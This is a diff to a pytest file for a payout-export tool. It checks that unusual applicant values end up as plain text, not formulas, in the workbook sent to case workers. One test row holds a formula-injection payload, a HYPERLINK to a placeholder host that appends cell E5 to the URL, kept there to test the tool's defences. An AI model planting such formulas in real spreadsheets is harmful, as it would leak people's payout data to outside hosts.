@@ -13,6 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from openpyxl import load_workbook
 from splitpayout.models import Outcome
 from splitpayout.planner import plan_export
 
@@ -34,7 +35,11 @@ ODD_ROWS: list[dict[str, Any]] = [
     {"Beslutsnummer": "E" * 38},
     {"Beslutsnummer": "  OK-1\t"},
     {"Beslutsnummer": "OK-2", "Sökande_2_namn": "B" * 101},
-    {"Beslutsnummer": "OK-3", "Sökande_1_namn": '=HYPERLINK("http://example.invalid/?q="&E5,"Klicka")'},
+    {  # goes to manual handling (the account is not valid), so its name is in the workbook
+        "Beslutsnummer": "OK-3",
+        "Sökande_1_namn": '=HYPERLINK("http://example.invalid/?q="&E5,"Klicka")',
+        "Sökande_1_kontonummer": "123",
+    },
     {"Beslutsnummer": "ok-4"},
     {"Beslutsnummer": "OK-4"},
     {"Beslutsnummer": "Öst-5", "Delad_utbetalning": "Nej"},
@@ -52,7 +57,15 @@ def odd_export(path: Path) -> Path:
     for odd in ODD_ROWS:
         values = {key.replace(" ", "_"): value for key, value in odd.items()}
         rows.append(raw_row(Utbetalningsdatum=PAYOUT_DATE, **values))
-    return write_export(path, rows)
+    write_export(path, rows)
+    # Text that starts with "=" is text in a real export (a string cell), not a formula.
+    book = load_workbook(path)
+    for row in book.active.iter_rows():  # type: ignore[union-attr]
+        for cell in row:
+            if isinstance(cell.value, str) and cell.value.startswith("="):
+                cell.data_type = "s"
+    book.save(path)
+    return path
 
 
 @pytest.fixture(scope="module")
@@ -112,5 +125,16 @@ def test_odd_exports_run_three_times_enter_each_reference_once(server: PayoutSer
         tmp_path / "run1": 0o700,
         state: 0o700,
     }
+    # Export text stays text in the case workers' workbook: no formula cell on any sheet.
+    formulas = [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in load_workbook(workbook).worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    texts = {cell.value for row in load_workbook(workbook).worksheets[0].iter_rows() for cell in row}
+    assert ODD_ROWS[8]["Sökande_1_namn"] in texts  # written as the text it is
     log = (tmp_path / "run1" / "log.html").read_text(encoding="utf-8")
     assert "WS-3\\\\nNL" in log or "WS-3\\nNL" in log  # shown with a visible escape, on one line
